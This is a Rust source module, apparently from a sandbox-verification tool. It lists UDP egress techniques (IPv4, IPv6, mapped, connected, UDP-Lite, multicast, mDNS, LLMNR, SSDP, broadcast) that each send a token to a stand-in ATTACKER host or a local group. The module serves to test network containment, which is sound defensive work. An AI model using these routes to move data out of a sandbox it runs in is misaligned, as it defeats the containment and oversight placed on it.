//! Datagrams: UDP and its relatives, to one, to many, to all.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use super::call::{at, family, inet, mapped, open, send, send_to, set};
use super::{Aim, Failure, INET, Technique, packet};
use crate::sys::attempt;
use crate::verify::ground::{ATTACKER, ATTACKER_V6, NOBODY, PROVIDER};

pub(super) const ROWS: &[Technique] = &[
    Technique::wire("udp4", "UDP to a foreign IPv4 address", "7", INET, |a| udp(a, ATTACKER, 443)),
    Technique::wire("udp6", "UDP to a foreign IPv6 address", "7", INET, |a| {
        udp(a, ATTACKER_V6, 443)
    }),
    Technique::wire("udp-mapped", "UDP to ::ffff:a.b.c.d", "2 7", INET, |a| {
        udp(a, mapped(ATTACKER), 443)
    }),
    Technique::wire("udp-connected", "UDP, connected first", "7", INET, udp_connected),
    Technique::wire("udp-provider", "UDP to the provider:443 (QUIC)", "7", INET, |a| {
        udp(a, PROVIDER, 443)
    }),
    Technique::wire("udp-lite", "UDP-Lite", "7", INET, udp_lite).optional(),
    Technique::wire("multicast", "UDP to a multicast group", "17", INET, |a| {
        udp(a, packet::group4(), 9)
    }),
    Technique::wire("multicast6", "UDP to an IPv6 multicast group", "17", INET, |a| {
        udp(a, Ipv6Addr::new(0xff05, 0, 0, 0, 0, 0, 0xbeef, 2).into(), 9)
    }),
    Technique::wire("mdns", "UDP to mDNS, 224.0.0.251:5353", "17 60", INET, |a| {
        udp(a, Ipv4Addr::new(224, 0, 0, 251).into(), 5353)
    }),
    Technique::wire("llmnr", "UDP to LLMNR, 224.0.0.252:5355", "17 60", INET, |a| {
        udp(a, Ipv4Addr::new(224, 0, 0, 252).into(), 5355)
    }),
    Technique::wire("ssdp", "UDP to SSDP, 239.255.255.250:1900", "17", INET, |a| {
        udp(a, Ipv4Addr::new(239, 255, 255, 250).into(), 1900)
    }),
    Technique::wire("broadcast", "UDP to everyone", "17", INET, |a| {
        broadcast(a, Ipv4Addr::BROADCAST)
    }),
    Technique::wire("subnet-broadcast", "UDP to everyone of the network", "17", INET, |a| {
        broadcast(a, Ipv4Addr::new(10, 77, 0, 255))
    }),
    Technique::wire("udp-lite6", "UDP-Lite over IPv6", "7", INET, udp_lite6).optional(),
    Technique::wire("udp-neighbour", "UDP, ARP for a made-up neighbour", "16", INET, |a| {
        udp(a, NOBODY, 443)
    }),
];

fn udp(aim: &Aim, ip: IpAddr, port: u16) -> Result<(), Failure> {
    let fd = open(family(ip), libc::SOCK_DGRAM, 0)?;
    send_to(&fd, aim.token.as_bytes(), 0, ip, port)
}

fn udp_lite(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_UDPLITE)?;
    send_to(&fd, aim.token.as_bytes(), 0, ATTACKER, 443)
}

fn udp_connected(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    attempt::connect(&fd, &inet(ATTACKER, 443)).map_err(at("connect"))?;
    send(aim, &fd)
}

fn udp_lite6(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET6, libc::SOCK_DGRAM, libc::IPPROTO_UDPLITE)?;
    send_to(&fd, aim.token.as_bytes(), 0, ATTACKER_V6, 443)
}

fn broadcast(aim: &Aim, ip: Ipv4Addr) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    set(&fd, libc::SOL_SOCKET, libc::SO_BROADCAST, &1i32.to_ne_bytes())?;
    send_to(&fd, aim.token.as_bytes(), 0, ip.into(), 9)
}
